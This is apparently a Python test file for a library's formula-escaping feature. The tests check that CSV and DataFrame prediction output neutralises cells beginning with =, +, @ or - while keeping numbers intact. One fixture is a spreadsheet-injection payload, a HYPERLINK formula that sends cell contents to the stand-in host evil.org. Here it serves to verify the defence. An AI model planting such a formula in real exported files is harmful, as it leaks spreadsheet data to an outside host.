"""Predictions for spreadsheets hold no formulas when that is asked, and the same numbers and texts otherwise."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
import run_builder
from hypothesis import example, given
from hypothesis import strategies as st

from graftwork.cli.main import main
from graftwork.serving.formula_cells import escape_formulas, escaped_cell

FORMULA = '=HYPERLINK("http://evil.org?"&A1)'


@given(st.text(max_size=12))
@example("=1")
@example("\t=1")
@example("+49 30 1234")
@example("-1")
@example("+1.5e-3")
@example("-")
def test_no_text_begins_a_formula_and_numbers_and_other_texts_stay(text: str) -> None:
    found = escaped_cell(text)
    assert found in (text, f"'{text}")
    if text[:1] in tuple("=+@-\t\r\n"):
        number = found == text
        assert not number or float(text.rstrip("%")) is not None
    else:
        assert found == text or text[0] in "＝＋－＠"


def test_tables_are_escaped_in_cells_names_of_rows_and_headings() -> None:
    frame = pd.DataFrame(
        {"=task": ["@a", "b", None], "price": [-1.5, 2.0, float("nan")], "+label": pd.array([True, False, True])},
        index=pd.Index(["=one.png", "two.png", "-3"], name="@file"),
    )
    found = escape_formulas(frame)
    assert list(found.columns) == ["'=task", "price", "'+label"]
    assert found.index.tolist() == ["'=one.png", "two.png", "-3"]
    assert found.index.name == "'@file"
    assert found["'=task"].tolist()[:2] == ["'@a", "b"]
    assert found["'=task"].isna().tolist() == [False, False, True]
    pd.testing.assert_series_equal(found["price"], frame["price"], check_index=False)
    assert frame.columns[0] == "=task", "what was given is unchanged"
    pd.testing.assert_frame_equal(
        escape_formulas(frame[["price"]].reset_index(drop=True)), frame[["price"]].reset_index(drop=True)
    )


def test_the_verb_escapes_csv_when_asked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = run_builder.write_table_run(tmp_path / "run")
    config = folder / "model" / "config.json"
    content = json.loads(config.read_text())
    task = next(task for task in content["tasks"] if task["classes"])
    task["classes"] = [FORMULA, *[f"@{name}" for name in task["classes"][1:]]]
    config.write_text(json.dumps(content))
    table = tmp_path / "rows.csv"
    pd.DataFrame({"age": [-33.0, 1.0], "city": ["Rome", "Oslo"], "since": ["2021-01-01"] * 2, "id": [1, 2]}).to_csv(
        table, index=False
    )
    assert main(["predict", str(folder), str(table)]) == 0
    plain = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert main(["predict", str(folder), str(table), "--escape-formulas", "--out", str(tmp_path / "out.csv")]) == 0
    with open(tmp_path / "out.csv", newline="") as file:
        escaped = list(csv.reader(file))
    assert escaped == [[escaped_cell(cell) for cell in row] for row in plain]
    assert escaped != plain
    assert any(cell.startswith(("=", "@")) for row in plain for cell in row)
    assert any(float(cell) < 0 for row in escaped[1:] for cell in row if cell.startswith("-"))
    capsys.readouterr()
    assert main(["predict", str(folder), str(table), "--escape-formulas", "--out", str(tmp_path / "out.jsonl")]) == 2
    assert "--escape-formulas is for csv files" in capsys.readouterr().err
